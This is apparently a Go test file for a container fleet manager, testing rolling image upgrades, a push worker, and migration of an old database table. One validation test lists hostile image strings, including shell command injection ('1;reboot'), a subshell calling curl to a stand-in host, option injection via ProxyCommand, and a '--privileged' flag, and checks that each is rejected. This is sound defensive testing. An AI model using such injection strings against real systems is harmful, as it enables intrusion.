package fleet

import (
	"context"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gatewayforge/clawops"
	"github.com/gatewayforge/clawops/store"
)

const (
	oldImage = "ghcr.io/openclaw/openclaw:2026.9.0"
	newImage = "ghcr.io/openclaw/openclaw:2026.9.6"
)

func upgradeSpec(targets []clawops.InstanceID, batch, maxFail int) UpgradeSpec {
	return UpgradeSpec{Image: newImage, Targets: targets, BatchSize: batch, MaxFailPercent: maxFail,
		RequestedBy: "alice via commander", Reason: "openclaw 2026.9.6"}
}

// simImages gives every simulated node of ids the image oldImage.
func simImages(sim *simNodes, ids []clawops.InstanceID) {
	for _, id := range ids {
		sim.with(clawops.NodeID("node-"+string(id)), func(n *simNode) { n.image = oldImage })
	}
}

// upgradesByNode returns how many times each node switched images.
func upgradesByNode(sim *simNodes) map[clawops.NodeID]int {
	sim.mu.Lock()
	defer sim.mu.Unlock()
	out := map[clawops.NodeID]int{}
	for id, n := range sim.nodes {
		out[id] = n.upgrades
	}
	return out
}

// TestRollingUpgradeWithoutImages: a node whose runtime runs no image (the process
// runtime) answers NOT_IMPLEMENTED; the instance fails with that in its detail and the
// push stops at its threshold.
func TestRollingUpgradeWithoutImages(t *testing.T) {
	h, sim := newSimHarness(t, nil)
	ids := h.activePairs(t, sim, "acct", 2)
	simImages(sim, ids)
	sim.with("node-"+clawops.NodeID(ids[1]), func(n *simNode) { n.noImages = true })
	v, err := h.svc.StartUpgrade(context.Background(), upgradeSpec(ids, 2, 0))
	if err != nil {
		t.Fatal(err)
	}
	v, err = h.svc.RunPush(context.Background(), v.ID)
	if err != nil {
		t.Fatal(err)
	}
	if v.State != PushStopped || v.Counts[TargetApplied] != 1 || v.Counts[TargetFailed] != 1 || v.Counts[TargetPending] != 2 {
		t.Fatalf("upgrade: got %s %v, want stopped after batch 1 with 1 applied, 1 failed", v.State, v.Counts)
	}
	if len(v.Failures) != 1 || v.Failures[0].Instance != ids[1] ||
		!strings.HasPrefix(v.Failures[0].Detail, "the node's runtime cannot do this: ") || !strings.Contains(v.Failures[0].Detail, "NOT_IMPLEMENTED") {
		t.Errorf("failures: got %+v, want %s failed with NOT_IMPLEMENTED", v.Failures, ids[1])
	}
	if n := upgradesByNode(sim)["node-"+clawops.NodeID(ids[1])]; n != 0 {
		t.Errorf("upgrades on the process runtime: got %d, want 0", n)
	}
}

// TestRollingUpgradeWorker: the push worker runs an upgrade to completion, as it runs a
// config push, and lists it among the pushes.
func TestRollingUpgradeWorker(t *testing.T) {
	h, sim := newSimHarness(t, nil)
	ids := h.activePairs(t, sim, "acct", 5) // 10 instances
	simImages(sim, ids)
	ctx, stop := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- h.svc.RunPushWorker(ctx, time.Minute) }()
	digest := "ghcr.io/openclaw/openclaw@sha256:" + strings.Repeat("ab", 32)
	v, err := h.svc.StartUpgrade(ctx, UpgradeSpec{Image: digest, Targets: ids, BatchSize: 3})
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for v.State == PushRunning {
		if time.Now().After(deadline) {
			t.Fatalf("the worker did not finish the upgrade: %s %v", v.State, v.Counts)
		}
		time.Sleep(5 * time.Millisecond)
		if v, err = h.svc.PushStatus(context.Background(), v.ID); err != nil {
			t.Fatal(err)
		}
	}
	stop()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if v.State != PushCompleted || v.Counts[TargetApplied] != len(ids) || v.BatchesDone != 4 {
		t.Errorf("worker: got %s %v, %d batches done; want completed, all %d applied in 4 batches", v.State, v.Counts, v.BatchesDone, len(ids))
	}
	for _, id := range ids {
		sim.with(clawops.NodeID("node-"+string(id)), func(n *simNode) {
			if n.image != digest || n.upgrades != 1 {
				t.Errorf("%s: runs %s after %d upgrades, want %s after 1", id, n.image, n.upgrades, digest)
			}
		})
	}
	list, err := h.svc.Pushes(context.Background(), 10)
	if err != nil || len(list) != 1 || list[0].Kind != PushKindUpgrade || list[0].Label() != "upgrade to "+digest {
		t.Errorf("pushes: got %+v, %v", list, err)
	}
}

func TestStartUpgradeBad(t *testing.T) {
	h, sim := newSimHarness(t, nil)
	ids := h.activePairs(t, sim, "acct", 1)
	for name, image := range map[string]string{
		"latest":       "ghcr.io/openclaw/openclaw:latest",
		"LATEST":       "ghcr.io/openclaw/openclaw:LATEST",
		"no tag":       "ghcr.io/openclaw/openclaw",
		"empty":        "",
		"shell":        "ghcr.io/openclaw/openclaw:1;reboot",
		"subshell":     "$(curl evil)/x:1",
		"option":       "-oProxyCommand=x:1",
		"space":        "openclaw:1 --privileged",
		"newline":      "openclaw:1\nopenclaw:2",
		"short digest": "openclaw@sha256:abc",
		"long":         "a/" + strings.Repeat("b", 260) + ":1",
	} {
		t.Run(name, func(t *testing.T) {
			spec := upgradeSpec(ids, 10, 0)
			spec.Image = image
			_, err := h.svc.StartUpgrade(context.Background(), spec)
			wantReason(t, err, clawops.ReasonBadArguments)
		})
	}
	wantNothingSent(t, h, sim, ids)
	// Batch 0 is the default batch, as for a config push.
	spec, err := NormalizeUpgradeSpec(UpgradeSpec{Image: newImage, Targets: ids})
	if err != nil || spec.BatchSize != DefaultBatchSize {
		t.Errorf("default batch: got %d, %v; want %d", spec.BatchSize, err, DefaultBatchSize)
	}
}

// legacyPush is fleet_pushes as it was before upgrades: no kind, no image.
type legacyPush struct {
	ID             uint   `gorm:"primaryKey"`
	Version        string `gorm:"size:64"`
	Config         string
	ConfigSHA256   string `gorm:"size:64"`
	BatchSize      int
	MaxFailPercent int
	State          string `gorm:"index;size:16"`
	StopReason     string `gorm:"size:1000"`
	RequestedBy    string `gorm:"size:200"`
	Reason         string `gorm:"size:1000"`
	Total          int
	Batches        int
	CreatedAt      time.Time
	UpdatedAt      time.Time
	FinishedAt     *time.Time
}

func (legacyPush) TableName() string { return "fleet_pushes" }

// TestPushMigrationKeepsConfigPushes migrates a database written before upgrades
// existed: its pushes read as config pushes, and a running one still runs.
func TestPushMigrationKeepsConfigPushes(t *testing.T) {
	db, err := store.Open(context.Background(), store.Options{DSN: filepath.Join(t.TempDir(), "old.db")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close(db) })
	if err := db.AutoMigrate(&legacyPush{}, &PushTarget{}); err != nil {
		t.Fatal(err)
	}
	now := time.Date(2026, 11, 3, 9, 0, 0, 0, time.UTC)
	old := legacyPush{Version: "v47", Config: string(kimiConfig), ConfigSHA256: "x", BatchSize: 10, State: PushRunning,
		RequestedBy: "alice", Total: 2, Batches: 1, CreatedAt: now, UpdatedAt: now}
	if err := db.Create(&old).Error; err != nil {
		t.Fatal(err)
	}
	sim := newSimNodes()
	h := newHarnessDB(t, db, func(o *Options) { o.Nodes = sim })
	ids := h.activePairs(t, sim, "acct", 1)
	for i, id := range ids {
		if err := db.Create(&PushTarget{PushID: old.ID, Instance: id, Seq: i, State: TargetPending, UpdatedAt: now}).Error; err != nil {
			t.Fatal(err)
		}
	}
	v, err := h.svc.PushStatus(context.Background(), old.ID)
	if err != nil || v.Kind != PushKindConfig || v.Version != "v47" || v.Image != "" || v.Label() != "v47" {
		t.Fatalf("old push after migration: got %+v, %v", v, err)
	}
	v, err = h.svc.RunPush(context.Background(), old.ID)
	if err != nil || v.State != PushCompleted || v.Counts[TargetApplied] != 2 {
		t.Fatalf("old push run: got %s %v, %v", v.State, v.Counts, err)
	}
	for node, n := range sim.appliesByNode() {
		if n != 1 {
			t.Errorf("%s: config applied %d times, want 1", node, n)
		}
	}
	// A new upgrade lands next to it, in the same table.
	u, err := h.svc.StartUpgrade(context.Background(), upgradeSpec(ids, 10, 0))
	if err != nil || u.Kind != PushKindUpgrade || u.ID == old.ID {
		t.Fatalf("upgrade after migration: got %+v, %v", u, err)
	}
}
